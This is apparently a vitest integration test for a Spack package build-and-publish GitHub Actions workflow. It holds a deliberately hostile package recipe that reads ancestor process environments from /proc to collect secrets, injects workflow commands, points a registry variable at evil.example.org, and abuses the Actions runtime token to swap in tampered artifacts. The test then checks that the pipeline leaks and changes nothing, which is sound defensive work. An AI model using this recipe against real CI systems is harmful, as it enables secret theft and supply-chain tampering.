import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { makeKey } from '../../scripts/signing/key.ts';
import { findSolvers } from '../world/spack.ts';
import { openRehearsal, TOKEN, type Rehearsal } from './rehearsal.ts';
import { BUILD_HERE, expectSuccess, readCatalogFile, RECIPES, SETTINGS } from './setting.ts';

const canRehearse = findSolvers().length > 0 && process.env['FULL'] === '1';
let rehearsal: Rehearsal;

beforeAll(async () => {
  if (!canRehearse) return;
  rehearsal = await openRehearsal({ repository: 'owner/cache', settings: SETTINGS, registry: 'variable' });
});

afterAll(() => rehearsal?.close());

/**
 * A recipe that leaks every secret it can reach, even in its ancestors' environments, and manipulates what it
 * can: variables for later steps, and hashes in the plans that publish will read, with the token that GitHub
 * gives to actions.
 */
const HOSTILE = `
import hashlib
import io
import json
import os
import urllib.request
import zipfile
from spack_repo.builtin.build_systems.generic import Package
from spack.package import *


def call(found, method, **body):
    run = "%s-%s" % (found["GITHUB_RUN_ID"], found.get("GITHUB_RUN_ATTEMPT", "1"))
    body.update({"workflow_run_backend_id": run, "workflow_job_run_backend_id": "job"})
    url = found["ACTIONS_RESULTS_URL"] + "twirp/github.actions.results.api.v1.ArtifactService/" + method
    headers = {"authorization": "Bearer " + found["ACTIONS_RUNTIME_TOKEN"], "content-type": "application/json"}
    request = urllib.request.Request(url, json.dumps(body).encode(), headers)
    return json.loads(urllib.request.urlopen(request).read())


def plant(found, name):
    """Puts another artifact in the place of one of the run, with one more hash in each plan."""
    old = urllib.request.urlopen(call(found, "GetSignedArtifactURL", name=name)["signed_url"]).read()
    call(found, "DeleteArtifact", name=name)
    new = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(old)) as source, zipfile.ZipFile(new, "w") as target:
        for each in source.namelist():
            more = b"a" * 32 + b"\\n" if each.endswith("plan.txt") else b""
            target.writestr(each, source.read(each) + more)
    where = call(found, "CreateArtifact", name=name, version=7)["signed_upload_url"]
    urllib.request.urlopen(urllib.request.Request(where, new.getvalue(), method="PUT"))
    digest = "sha256:" + hashlib.sha256(new.getvalue()).hexdigest()
    call(found, "FinalizeArtifact", name=name, size=str(len(new.getvalue())), hash=digest)


class Hostile(Package):
    """Means ill."""

    has_code = False
    version("1.0")

    def install(self, spec, prefix):
        found, told = {}, []
        pid = os.getpid()
        while pid > 1:
            with open("/proc/%d/environ" % pid, "rb") as f:
                text = f.read().decode("utf-8", "replace")
            if "REHEARSAL=" in text:
                found = dict(line.split("=", 1) for line in text.split("\\0") if "=" in line)
            told.append(text)
            with open("/proc/%d/stat" % pid) as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
            if found:
                break
        with open(os.path.join(found["REHEARSAL"], "told.txt"), "w") as f:
            f.write("\\n".join(told))
        print("::set-output name=published::1")
        print("::add-path::/tmp/evil")
        with open(found["GITHUB_ENV"], "a") as f:
            f.write("REGISTRY=evil.example.org/x\\n")
        plant(found, "plans-1")
        mkdirp(prefix.bin)
        with open(prefix.bin.join("planted"), "w") as f:
            f.write("planted")
`;

test.runIf(canRehearse)('a hostile package gets nothing and changes nothing', async () => {
  const recipe = `${RECIPES}/spack_repo/trial/packages/hostile/package.py`;
  rehearsal.push({ [recipe]: HOSTILE });
  const before = rehearsal.git('rev-parse', 'main');
  const { privateKey } = await makeKey({ name: 'Rehearsal', date: new Date() });
  const run = await rehearsal.run('manual', {
    name: 'workflow_dispatch',
    inputs: { specs: 'hostile', own: RECIPES, deploy: true },
    secrets: { SIGNING_KEY: privateKey },
    env: BUILD_HERE,
  });
  // The log is not used, since act masks secrets there.
  const told = readFileSync(join(rehearsal.folder, 'told.txt'), 'utf8');
  expect(told).toContain('GITHUB_RUN_ID');
  expect(told).not.toContain(TOKEN);
  expect(told).not.toContain('BEGIN PGP PRIVATE KEY');
  expect(run.output).toMatch(/plan\.txt: expected the file that concretize wrote/);
  expect(run.code).not.toBe(0);
  expect(rehearsal.git('rev-parse', 'main')).toBe(before);
  const attested = join(rehearsal.folder, 'attested.txt');
  expect(existsSync(attested) ? readFileSync(attested, 'utf8') : '').toBe('');
});

test.runIf(canRehearse)('two concurrent runs both publish', async () => {
  const runs = await Promise.all(
    ['trial-app', 'trial-app +loud'].map((specs) =>
      rehearsal.run('manual', {
        name: 'workflow_dispatch',
        inputs: { specs, own: RECIPES, deploy: true },
        env: BUILD_HERE,
      }),
    ),
  );
  for (const run of runs) expectSuccess(run);
  const builds = rehearsal.git('ls-tree', '--name-only', 'main', 'site/content/builds/trial-app/').trim();
  expect(builds.split('\n')).toHaveLength(2);
  expect(JSON.parse(readCatalogFile(rehearsal, 'builds/trial-base/'))).toMatchObject({ name: 'trial-base' });
});
